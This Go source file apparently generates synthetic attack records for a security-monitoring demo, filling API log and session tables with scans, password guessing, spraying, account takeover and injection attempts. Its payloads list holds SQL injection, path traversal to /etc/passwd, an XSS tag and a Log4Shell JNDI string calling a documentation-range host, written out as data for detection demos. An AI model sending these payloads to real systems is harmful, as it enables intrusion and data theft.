package demo

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"

	"github.com/jackc/pgx/v5/pgtype"
)

// attack is something that somebody from outside tries, in rows as the API log
// would have them. Whether it is an incident is for the rules of detection to say.
type attack struct {
	kind string        // as its rows are marked
	ago  int           // days before the last one that is planned
	at   time.Duration // of that day, in UTC
	make func(r *rand.Rand) []hit
}

// hit is one request of an attack.
type hit struct {
	after            time.Duration // since the attack began
	address          netip.Addr
	method, endpoint string
	status           int
	headers          map[string]string
	shows            bool // it alone shows an attack, by the name of a scanner or a path
	agent            int  // the agent whose account is used, from 1; 0: nobody's
	enters           bool // a session begins with it
}

// attacks are the plan. Those of the last days come again, so that a world that goes on
// is attacked while somebody looks. Read-only.
var attacks = []attack{
	{"scan of endpoints", 13, 2*time.Hour + 10*time.Minute, scan(90, 40)},
	{"password guessing", 9, 3*time.Hour + 40*time.Minute, guess(66, 36, 5*time.Second)},
	{"password spraying", 6, time.Hour + 20*time.Minute, spray(60, 12)},
	{"injection", 4, 14*time.Hour + 5*time.Minute, inject(91)},
	{"account taken over", 3, 22*time.Hour + 30*time.Minute, takeOver(67, 6)},
	{"password guessing", 2, 6*time.Hour + 15*time.Minute, guess(68, 12, 20*time.Second)},
	{"scan of endpoints", 2, 18*time.Hour + 20*time.Minute, scan(92, 24)},
	{"password guessing", 1, 6*time.Hour + 15*time.Minute, guess(69, 12, 20*time.Second)},
	{"injection", 1, 18*time.Hour + 20*time.Minute, inject(93)},
	{"password spraying", 0, 6*time.Hour + 15*time.Minute, spray(40, 8)},
	{"scan of endpoints", 0, 18*time.Hour + 20*time.Minute, scan(94, 24)},
}

// outside is an address for documentation from which nobody works.
func outside(host byte) netip.Addr { return netip.AddrFrom4([4]byte{203, 0, 113, host}) }

const (
	script  = "python-requests/2.32.3"
	scanner = "sqlmap/1.8.4#stable (https://sqlmap.org)"
	signIn  = "/auth/v1/token"
)

// signingIn is an attempt with a password, by a script.
func signingIn(r *rand.Rand, after time.Duration, address netip.Addr, status int) hit {
	return hit{after: after, address: address, method: "POST", endpoint: signIn, status: status, headers: map[string]string{
		"user-agent": script, "grant_type": "password", "account_hash": fmt.Sprintf("%016x%016x", r.Uint64(), r.Uint64()),
	}}
}

// guess tries n passwords from one address.
func guess(host byte, n int, every time.Duration) func(*rand.Rand) []hit {
	return func(r *rand.Rand) (list []hit) {
		for i := range n {
			list = append(list, signingIn(r, time.Duration(i)*every, outside(host), 400))
		}
		return list
	}
}

// spray tries n accounts, once each, from several networks.
func spray(n, networks int) func(*rand.Rand) []hit {
	return func(r *rand.Rand) (list []hit) {
		for i := range n {
			address := netip.AddrFrom4([4]byte{100, 64 + byte(i%networks), 7, byte(1 + r.IntN(250))}) // the shared space of carriers
			list = append(list, signingIn(r, time.Duration(i)*9*time.Second, address, 400))
		}
		return list
	}
}

// takeOver guesses an agent's password and signs in with it.
func takeOver(host byte, wrong int) func(*rand.Rand) []hit {
	const agent, every = 5, 25 * time.Second
	return func(r *rand.Rand) (list []hit) {
		for i := range wrong {
			list = append(list, signingIn(r, time.Duration(i)*every, outside(host), 400))
		}
		in := signingIn(r, time.Duration(wrong)*every, outside(host), 200)
		in.agent, in.enters = agent, true
		list = append(list, in)
		for i, table := range []string{"conversations", "customer_profiles", "messages"} {
			list = append(list, hit{
				after: in.after + time.Duration(i+1)*4*time.Second, address: in.address, method: "GET", endpoint: "/rest/v1/" + table, status: 200,
				headers: map[string]string{"user-agent": script, "role": "authenticated"}, agent: agent,
			})
		}
		return list
	}
}

// guessed are names that are tried where nobody knows a table. Read-only.
var guessed = []string{"users", "accounts", "admin", "backup", "config", "secrets", "tokens", "payments", "cards", "invoices", "logs", "dump"}

// scan looks for n endpoints that are not there.
func scan(host byte, n int) func(*rand.Rand) []hit {
	return func(*rand.Rand) (list []hit) {
		for i := range n {
			endpoint := "/rest/v1/" + guessed[i%len(guessed)]
			if again := i / len(guessed); again > 0 {
				endpoint += fmt.Sprintf("_%d", again+1)
			}
			list = append(list, hit{after: time.Duration(i) * 4 * time.Second, address: outside(host), method: "GET", endpoint: endpoint, status: 404, headers: map[string]string{"user-agent": script}})
		}
		return list
	}
}

// payloads are what a scanner asks for. Read-only.
var payloads = []string{
	"/rest/v1/profiles/1' OR '1'='1", "/rest/v1/profiles/1 UNION SELECT version()--", "/rest/v1/../../etc/passwd",
	"/storage/v1/object/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/rest/v1/rpc/<script>alert(1)</script>", "/rest/v1/${jndi:ldap://203.0.113.91/a}",
}

// inject sends paths that carry an attack.
func inject(host byte) func(*rand.Rand) []hit {
	return func(*rand.Rand) (list []hit) {
		for i, path := range payloads {
			list = append(list, hit{after: time.Duration(i) * 7 * time.Second, address: outside(host), method: "GET", endpoint: path, status: 404, headers: map[string]string{"user-agent": scanner}, shows: true})
		}
		return list
	}
}

// mostHits is more than those of any attack.
const mostHits = 128

// placed is a hit with its number and time.
type placed struct {
	hit
	n    int
	at   time.Time
	kind string
}

// hits are those after a moment and up to another.
func (t *tenant) hits(after, until time.Time) (list []placed) {
	for n, a := range attacks {
		begin := t.last.Truncate(24*time.Hour).AddDate(0, 0, -a.ago).Add(a.at)
		for i, h := range a.make(dice(t.seed, attackKey, n)) {
			if at := begin.Add(h.after); at.After(after) && !at.After(until) {
				list = append(list, placed{hit: h, n: n*mostHits + i, at: at, kind: a.kind})
			}
		}
	}
	return list
}

// account is the user of a hit; nil: nobody.
func (t *tenant) account(h placed) any {
	if h.agent == 0 || h.enters { // the log does not name who signs in
		return nil
	}
	return key(t.seed, agentKey, h.agent-1)
}

// attacked are the rows of the log that attacks leave.
func (t *tenant) attacked(list []placed) table {
	return newTable("api_security_logs", len(list), logColumns, func(i int) []any {
		h := list[i]
		told := map[string]string{"demo": h.kind}
		for name, value := range h.headers {
			told[name] = value
		}
		headers, err := json.Marshal(told)
		if err != nil { // texts always encode
			headers = []byte("{}")
		}
		return []any{
			key(t.seed, attackKey, h.n), h.endpoint, h.method, t.account(h), h.address, 120, h.status, 9, false, h.shows, string(headers), `{}`, h.at,
		}
	})
}

// intruders are the sessions that attacks began.
func (t *tenant) intruders(list []placed) table {
	var in []placed
	for _, h := range list {
		if h.enters {
			in = append(in, h)
		}
	}
	return newTable("security_sessions", len(in), sessionColumns, func(i int) []any {
		h := in[i]
		const stayed = 20 * time.Minute
		return []any{
			key(t.seed, attackKey, h.n), key(t.seed, agentKey, h.agent-1), fmt.Sprintf("demo-%d-intruder-%d", t.seed, h.n), h.address,
			h.headers["user-agent"], "password", pgtype.Interval{Microseconds: stayed.Microseconds(), Valid: true}, "timeout", false,
			h.at.Add(time.Second), h.at.Add(stayed), h.at.Add(stayed), `{}`, `{"demo": true}`, h.at.AddDate(0, 0, 1),
		}
	})
}
